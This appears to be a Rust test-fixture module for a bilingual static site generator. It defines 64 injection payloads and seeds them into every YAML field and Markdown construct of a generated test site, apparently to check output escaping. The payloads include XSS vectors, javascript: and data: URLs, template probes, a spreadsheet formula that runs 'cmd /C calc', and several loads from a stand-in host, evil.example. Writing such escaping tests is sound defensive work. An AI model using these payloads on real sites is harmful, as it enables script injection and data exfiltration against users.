//! Words that would run, ask or imitate if they reached a page as they are: one or more of each
//! known kind, collected here and put into every field of a site.

/// What runs if it is markup, an attribute, an address, a style, a template or a formula.
pub(crate) const PAYLOADS: [&str; 64] = [
    // Elements.
    "<script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    "<img src=//evil.example/pixel.png>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><use href=\"data:image/svg+xml,<svg id=x onload=alert(1)>#x\">",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc=\"<script>alert(1)</script>\">",
    "<object data=javascript:alert(1)>",
    "<embed src=data:text/html,<script>alert(1)</script>>",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>",
    "<form action=//evil.example><input name=a><button>x</button></form>",
    "<base href=//evil.example/>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content=\"0;url=//evil.example\">",
    "<style>*{background:url(//evil.example/x)}</style>",
    "<math><mtext></form><form><mglyph><svg><mtext><style><path id=\"</style><img onerror=alert(1) src>\">",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml-stylesheet href=\"javascript:alert(1)\"?>",
    "<a href=\"&#106;avascript:alert(1)\">x</a>",
    "<x contenteditable onblur=alert(1) tabindex=1 id=x>",
    // Ways out of attributes, texts, scripts and comments.
    "\" onmouseover=\"alert(1)\" x=\"",
    "' onmouseover='alert(1)' x='",
    "\"><img src=x onerror=alert(1)>",
    "'><img src=x onerror=alert(1)>",
    "` onmouseover=alert(1) x=`",
    "--><script>alert(1)</script><!--",
    "]]><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "\\\"-alert(1)}//",
    "'-alert(1)-'",
    "\u{2028}alert(1)//",
    "<\u{0}script>alert(1)</script>",
    "\u{FF1C}script\u{FF1E}alert(1)\u{FF1C}/script\u{FF1E}",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    // Addresses.
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "java\tscript:alert(1)",
    "\u{1}javascript:alert(1)",
    "javascript&colon;alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "vbscript:msgbox(1)",
    "//evil.example/",
    "\\\\evil.example\\x",
    "file:///etc/passwd",
    // Styles, templates, formulas.
    "x;background:url(//evil.example/x)",
    "{{ 7 * 7 }}{% raw %}${7*7}<%= 7*7 %>",
    "=HYPERLINK(\"//evil.example\",\"x\")",
    "@SUM(1+1)*cmd|' /C calc'!A0",
];

/// A text as YAML writes it between quotation marks.
pub(crate) fn quoted(text: &str) -> String {
    serde_json::to_string(text).expect("a text can be written as JSON")
}

/// The site with a payload in every field: paths and texts.
pub(crate) fn site() -> Vec<(String, String)> {
    let mut files = vec![
        ("site.yaml".to_owned(), site_yaml()),
        ("content/_home.zh.md".to_owned(), home()),
        ("content/_home.en.md".to_owned(), home()),
        ("content/_methods.zh.md".to_owned(), home()),
        ("content/_methods.en.md".to_owned(), home()),
    ];
    for (index, payload) in PAYLOADS.iter().enumerate() {
        // Nothing stands so often that a quote of it would be found twice.
        let source =
            format!("第{index}句：{payload}去年新增就业256万人{payload}，第{index}句完。\n");
        let next = PAYLOADS[(index + 1) % PAYLOADS.len()];
        files.push((format!("seeds/s{index}.txt"), source));
        files.push((format!("seeds/s{index}.yaml"), source_yaml(payload, next)));
        files.push((format!("content/p{index}.zh.md"), original(index, payload)));
        files.push((format!("content/p{index}.en.md"), translation(index, payload)));
    }
    files
}

fn site_yaml() -> String {
    let [title, description, author, license] =
        [0, 33, 34, 39].map(|index| quoted(PAYLOADS[index]));
    let tag = |n: usize| format!("  t{n}: {{zh: {0}, en: {0}}}\n", quoted(PAYLOADS[n * 7]));
    let tags: String = (0..9).map(tag).collect();
    format!(
        "title: {title}\ndescription: {description}\nauthor: {author}\nlicense: {license}\n\
         languages: [zh, en]\nbase_url: https://site.example/a/\ntags:\n{tags}"
    )
}

fn home() -> String {
    let title = quoted(PAYLOADS[3]);
    let all: String = PAYLOADS.iter().map(|payload| format!("{payload}\n\n")).collect();
    format!("---\ntitle: {title}\nsummary: {title}\n---\n{all}")
}

fn source_yaml(payload: &str, next: &str) -> String {
    let (payload, next) = (quoted(payload), quoted(next));
    format!(
        "title: {payload}\npublisher: {next}\nauthors: {payload}\nnote: {payload}\n\
         url: {next}\nlanguage: zh\npublish: full\n"
    )
}

fn original(index: usize, payload: &str) -> String {
    let (text, whole) =
        (quoted(payload), quoted(&format!("{payload}去年新增就业256万人{payload}")));
    let headline = if index % 6 == 3 { format!("    headline: {index}\n") } else { String::new() };
    format!(
        "---\ntitle: {text}\nsummary: {text}\ntags: [t{}, {text}]\nperiod: {text}\nplace: {text}\n\
         source: s{index}\nfigures:\n  f{index}:\n    value: 256万人\n    label: {text}\n    \
         quote: {whole}\n    note: {text}\n    baseline: {text}\n    period: {text}\n    \
         place: {text}\n    unit: {text}\n    allow: {{figure-conflict: {text}}}\n{headline}  \
         d{index}: {{derive: f{index} / 2, label: {text}, show: 万人 0, with: [f{index}]}}\n  {text}: \
         {{value: {text}, label: {text}, quote: {text}, form: {text}, source: {text}}}\n---\n{}",
        index % 9,
        body(index, payload)
    )
}

fn translation(index: usize, payload: &str) -> String {
    let text = quoted(payload);
    let words = format!("label: {text}, note: {text}, baseline: {text}, display: {text}");
    format!(
        "---\ntitle: {text}\nsummary: {text}\nperiod: {text}\nplace: {text}\nfigures:\n  \
         f{index}: {{{words}, unit: {{one: {text}, other: {text}}}}}\n  d{index}: {{label: {text}}}\n---\n{}",
        body(index, payload)
    )
}

/// A payload in every place that Markdown has.
fn body(index: usize, payload: &str) -> String {
    format!(
        "{payload}\n\na {payload} b\n\n# {payload}\n\n[[f{index}]] [[f{index}|{payload}]] [[{payload}]]\n\n\
         [{payload}]({payload}) [a]({payload}) [b](<{payload}>) [c](a.md \"{payload}\") [d]({payload} '{payload}')\n\n\
         ![{payload}](x.png) ![a]({payload}) ![b](<{payload}> \"{payload}\")\n\n[e]: {payload}\n[f]: <{payload}> \"{payload}\"\n\n\
         [e] [f] <{payload}>\n\n`{payload}`\n\n``` {payload}\n{payload}\n```\n\n> {payload}\n\n- {payload}\n- [ ] {payload}\n\n\
         |{payload}|b|\n|-|:-:|\n|{payload}|1|\n\na[^{index}][^{payload}]\n\n[^{index}]: {payload}\n\n[^{payload}]: {payload}\n\n\
         <!-- allow number-unsourced: {payload} -->\n1234 {payload}\n\n*{payload}* **{payload}** ~~{payload}~~ \\{payload}\n"
    )
}
